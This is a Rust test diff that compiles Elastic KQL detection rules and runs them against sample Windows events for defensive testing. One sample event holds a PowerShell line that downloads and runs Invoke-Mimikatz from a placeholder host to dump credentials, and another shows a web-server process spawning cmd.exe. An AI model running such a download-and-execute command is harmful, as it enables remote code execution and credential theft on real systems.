@@ -56,6 +56,80 @@ fn kql_rules() -> Vec<(PathBuf, String, String)> {
     out
 }
 
+/// A Windows process start and a PowerShell script block: every compiled
+/// rule is evaluated on them (no panics, whatever the fields).
+fn sample_events() -> Vec<quarry_event::Event> {
+    let mut p = quarry_event::Event::default();
+    p.set("@timestamp", "2024-01-02T03:04:05.000Z");
+    p.set("event.category", vec!["process"]);
+    p.set("event.type", vec!["start"]);
+    p.set("host.os.type", "windows");
+    p.set("process.name", "cmd.exe");
+    p.set("process.args", vec!["cmd.exe", "/c", "whoami"]);
+    p.set("process.command_line", "cmd.exe /c whoami");
+    p.set("process.parent.name", "w3wp.exe");
+    p.set("source.ip", "10.1.2.3");
+    p.set("destination.port", 443i64);
+    let mut s = quarry_event::Event::default();
+    s.set("event.code", "4104");
+    s.set("host.os.type", "windows");
+    s.set(
+        "powershell.file.script_block_text",
+        "IEX (New-Object Net.WebClient).DownloadString('http://x/Invoke-Mimikatz.ps1'); Invoke-Mimikatz -DumpCreds",
+    );
+    s.set("message", "Creating Scriptblock text (1 of 1)");
+    vec![p, s]
+}
+
+#[test]
+#[ignore = "needs ../shared"]
+fn every_elastic_kql_rule_compiles() {
+    let rules = kql_rules();
+    let events = sample_events();
+    let opts = quarry_kql::KqlOptions::default();
+    let (mut ok, mut deprecated, mut failures) = (0, 0, Vec::new());
+    let mut warned_rules = 0;
+    let mut unknown = std::collections::BTreeMap::<String, usize>::new();
+    for (f, _, q) in &rules {
+        if f.components().any(|c| c.as_os_str() == "_deprecated") {
+            deprecated += 1;
+        }
+        match quarry_kql::compile_with_warnings(q, &opts) {
+            Ok(c) => {
+                ok += 1;
+                for ev in &events {
+                    let _ = c.query.matches(ev);
+                }
+                if !c.warnings.is_empty() {
+                    warned_rules += 1;
+                }
+                for w in &c.warnings {
+                    match (&w.field, w.message.starts_with("unknown field")) {
+                        (Some(field), true) => *unknown.entry(field.clone()).or_default() += 1,
+                        _ => println!("warning: {}: {w}", f.display()),
+                    }
+                }
+            }
+            Err(e) => failures.push(format!("{}: {e}", f.display())),
+        }
+    }
+    println!(
+        "{} KQL rules ({} under _deprecated): {ok} compile, {} fail; {warned_rules} with warnings, {} unknown fields",
+        rules.len(),
+        deprecated,
+        failures.len(),
+        unknown.len()
+    );
+    for f in &failures {
+        println!("{f}");
+    }
+    assert!(
+        failures.is_empty(),
+        "{} rules do not compile",
+        failures.len()
+    );
+}
+
 #[test]
 #[ignore = "needs ../shared"]
 fn every_elastic_kql_rule_parses() {
